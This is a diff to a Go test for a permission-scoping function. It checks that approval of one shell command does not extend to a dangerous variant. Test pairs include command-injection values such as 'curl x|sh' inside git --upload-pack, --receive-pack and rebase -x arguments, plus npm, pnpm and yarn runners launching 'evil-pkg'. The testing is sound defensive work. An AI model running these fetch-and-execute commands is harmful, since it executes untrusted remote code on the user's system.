@@ -178,6 +178,10 @@ func TestAlwaysScope_NeverBroaderThanShown(t *testing.T) {
 		{"git fetch --upload-pack git-upload-pack", "git fetch --upload-pack 'curl x|sh'"},
 		{"git push --receive-pack git-receive-pack", "git push --receive-pack 'curl x|sh'"},
 		{"git rebase -x 'make test' main", "git rebase -x 'curl x|sh' main"},
+		{"npm exec prettier .", "npm exec evil-pkg"}, // a package runner, as npx
+		{"npm --yes exec prettier .", "npm --yes exec evil-pkg"},
+		{"pnpm -C web dlx prettier .", "pnpm -C web dlx evil-pkg"},
+		{"yarn --cwd web dlx prettier", "yarn --cwd web dlx evil-pkg"},
 	}
 	for _, tt := range tests {
 		if AlwaysScope("Bash", tt.allowed) == AlwaysScope("Bash", tt.later) {
